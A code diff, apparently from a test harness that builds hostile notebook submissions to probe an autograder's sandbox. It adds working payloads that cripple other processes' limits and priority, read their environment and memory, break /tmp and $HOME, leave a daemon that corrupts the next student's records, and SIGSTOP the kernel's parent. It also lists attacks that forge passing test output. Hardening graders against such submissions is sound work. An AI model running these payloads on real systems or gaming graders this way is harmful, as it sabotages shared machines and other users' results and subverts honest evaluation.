@@ -13,6 +13,10 @@ whose answer cells try to get points, or do harm, without solving anything:
     tamper            append to the course's modules, nbgrader, site-packages; poison gradebooks
     forge             network, secrets, fake "all tests passed" output, forged artifacts
     kill_parent       kill the process that runs the kernel, and its process group
+    linger            for the next student: lower the limits and priority of every
+                      process in reach, break /tmp and $HOME, leave System V IPC and a
+                      daemon that spoils every record and output it finds
+    stop_parent       SIGSTOP the process that runs the kernel
 
 The attack code runs before the answer cell's stub (or after it, when it must define
 the graded functions), so the stubs still raise NotImplementedError for what is not
@@ -707,6 +711,84 @@ _atk_time.sleep(2)
 print("still here")
 """
 
+# Against a grader that keeps something running between students (a warm kernel).
+LINGER = r"""
+# ---- wait for the next student: hobble my parent, break /tmp, leave a daemon ----
+import resource, signal
+_atk_me = _atk_os.getpid()
+_atk_family = {_atk_me, _atk_os.getppid()}
+_atk_targets = []
+for _atk_name in _atk_os.listdir("/proc"):
+    if not _atk_name.isdigit() or int(_atk_name) in _ATK["protected"] or int(_atk_name) == _atk_me:
+        continue
+    _atk_cmd = _atk_read(f"/proc/{_atk_name}/cmdline", 2000).replace("\0", " ")
+    if int(_atk_name) in _atk_family or "python" in _atk_cmd:
+        _atk_targets.append(int(_atk_name))
+for _atk_pid in _atk_targets:
+    if _ATK["host"]:
+        break  # on an unsandboxed grader, these processes are the machine's
+    # What a process may do to another of the same user: the next kernel inherits it.
+    for _atk_what, _atk_do in (
+        ("renice", lambda: _atk_os.setpriority(_atk_os.PRIO_PROCESS, _atk_pid, 19)),
+        ("pin", lambda: _atk_os.sched_setaffinity(_atk_pid, {0})),
+        ("idle", lambda: _atk_os.sched_setscheduler(_atk_pid, _atk_os.SCHED_IDLE, _atk_os.sched_param(0))),
+        ("memory", lambda: resource.prlimit(_atk_pid, resource.RLIMIT_AS, (200 * 2**20, 200 * 2**20))),
+        ("files", lambda: resource.prlimit(_atk_pid, resource.RLIMIT_NOFILE, (8, 8))),
+        ("environ", lambda: _atk_read(f"/proc/{_atk_pid}/environ")),
+        ("memory map", lambda: open(f"/proc/{_atk_pid}/mem", "rb")),
+    ):
+        try:
+            _atk_do()
+            print(_atk_what, _atk_pid, "done")
+        except Exception as _atk_error:
+            print(_atk_what, _atk_pid, type(_atk_error).__name__)
+# Objects that outlive me, for the next kernel to find.
+try:
+    import ctypes
+    _atk_libc = ctypes.CDLL(None, use_errno=True)
+    print("shmget:", _atk_libc.shmget(0x7C1E, 4096, 0o1666), "errno", ctypes.get_errno())
+except Exception as _atk_error:
+    print("shmget:", _atk_error)
+# Break the folders behind /tmp and $HOME for whoever comes next.
+for _atk_path in ("/scratch/.tmp", "/scratch/.home", "/scratch/.shm", _atk_os.path.expanduser("~"), "/tmp"):
+    if _atk_may_harm(_atk_path) and _atk_os.path.isdir(_atk_path):
+        for _atk_do in (lambda: _atk_os.rename(_atk_path, _atk_path + "-gone"), lambda: _atk_os.chmod(_atk_path, 0)):
+            try:
+                _atk_do()
+                print("broke", _atk_path)
+            except OSError as _atk_error:
+                print("break", _atk_path, type(_atk_error).__name__)
+# A daemon that outlives me and spoils the next student's records and output.
+_atk_first = _atk_os.fork()
+if _atk_first == 0:
+    _atk_os.setsid()
+    if _atk_os.fork() == 0:
+        _atk_end = _atk_time.monotonic() + 240
+        _atk_seen = set()
+        while _atk_time.monotonic() < _atk_end:
+            for _atk_path in _atk_glob.glob("/scratch/**/*", recursive=True):
+                if _atk_path.endswith((".json", ".npz", ".log")) and not _atk_path.startswith("/scratch/.") :
+                    _atk_write(_atk_path, '{"crash": "spoiled by the student before you"}')
+                    _atk_seen.add(_atk_path)
+            _atk_time.sleep(0.02)
+        _atk_os._exit(0)
+    _atk_os._exit(0)
+_atk_os.waitpid(_atk_first, 0)
+print("daemon left behind")
+"""
+
+STOP_PARENT = r"""
+# ---- freeze my parent, so that nobody comes after me ----
+import signal
+_atk_parent = _atk_os.getppid()
+if not _ATK["host"] and _atk_parent > 1 and _atk_parent not in _ATK["protected"]:
+    try:
+        _atk_os.kill(_atk_parent, signal.SIGSTOP)
+        print("stopped", _atk_parent)
+    except OSError as _atk_error:
+        print("stop:", _atk_error)
+"""
+
 
 # --------------------------------------------------------------------------------------
 # Building the notebooks
@@ -791,6 +873,14 @@ def kill_parent(release, scope):
     return _prepend(notebook, "fine_tune", KILL_PARENT)
 
 
+def linger(release, scope):
+    return _prepend(release, "fine_tune", toolkit(scope) + LINGER)
+
+
+def stop_parent(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + STOP_PARENT)
+
+
 HOSTILE = {
     "noop_tests": noop_tests,
     "fake_modules": fake_modules,
@@ -801,6 +891,8 @@ HOSTILE = {
     "tamper": tamper,
     "forge": forge,
     "kill_parent": kill_parent,
+    "linger": linger,
+    "stop_parent": stop_parent,
 }
 
 
